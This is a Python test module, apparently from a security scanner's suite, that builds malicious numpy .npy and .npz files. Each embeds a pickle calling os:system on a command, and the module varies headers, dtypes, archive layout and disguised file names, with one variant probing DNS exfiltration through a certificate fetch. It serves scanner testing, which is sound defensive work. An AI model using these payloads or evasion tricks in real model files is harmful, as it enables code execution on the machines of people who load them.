"""Arrays of objects: pickles in .npy and .npz files."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from typing import Final

from tests.scan.population import assemble as a
from tests.scan.population.interface import COMMAND, Malicious
from tests.scan.population.zips import zipped

_RUN: Final = a.call("os:system", a.text(COMMAND))
EVIL: Final = a.pickled(_RUN, protocol=4)


def npy(data: bytes, descr: str = "'|O'", shape: str = "(1,)", version: int = 1) -> bytes:
    """numpy.lib.format, version 1.0 to 3.0."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    head = 10 if version == 1 else 12
    header += b" " * (-(head + len(header) + 1) % 64) + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header + data


def vectors() -> Iterator[Malicious]:
    plain = "scan.md 1, numpy object arrays"
    for version in (1, 2, 3):
        yield _numpy(f"objects, version {version}", npy(EVIL, version=version), plain)
    fields = "[('a', '<i4'), ('b', '|O')]"
    yield _numpy("objects in a field", npy(EVIL, fields), plain)
    yield _numpy("objects of no shape", npy(EVIL, shape="()"), plain)
    yield _numpy("named otherwise", npy(EVIL), "CVE-2025-1889", "weights.weights")
    yield _numpy("without a name's end", npy(EVIL), "CVE-2025-1889", "embeddings")
    for descr in ("'object'", "'i4,O'", "'f8, object'", "[('a', 'i4,O')]", "'(1,)O'"):
        yield _numpy(f"objects as {descr}", npy(EVIL, descr), "Credenza's red team, November 2026")
    floats = npy(bytes(8), "'<f8'")
    yield _numpy("a pickle behind its numbers", floats + EVIL, "scan.md 2.4, trailing", live=False)
    yield _numpy("DNS by an allowed look", npy(a.pickled(a.call(
        "ssl:get_server_certificate", a.value(("x.invalid", 443))))),
        "picklescan dns_exfiltration.npy", live=False)  # fmt: skip
    archive = {"w.npy": floats, "objects.npy": npy(EVIL)}
    yield _numpy("npz", zipped(archive), plain, "model.npz", live=False)
    packed = zipped(archive, deflated=True)
    yield _numpy("npz, compressed", packed, plain, "model.npz", live=False)
    yield _numpy("npz, member that is a pickle", zipped({"w.npy": floats, "arr": EVIL}), plain,
                 "model.npz", live=False)  # fmt: skip
    yield _numpy("npz, named as a picture", packed, "CVE-2025-1889", "cover.png", live=False)
    yield _numpy("pickle named .npy", EVIL, "CVE-2025-1889")


def _numpy(
    name: str, data: bytes, reference: str, path: str = "model.npy", *, live: bool = True
) -> Malicious:
    return Malicious(
        name=f"numpy {name}",
        category="numpy",
        reference=reference,
        files=((path, data),),
        live="numpy" if live else "",
    )
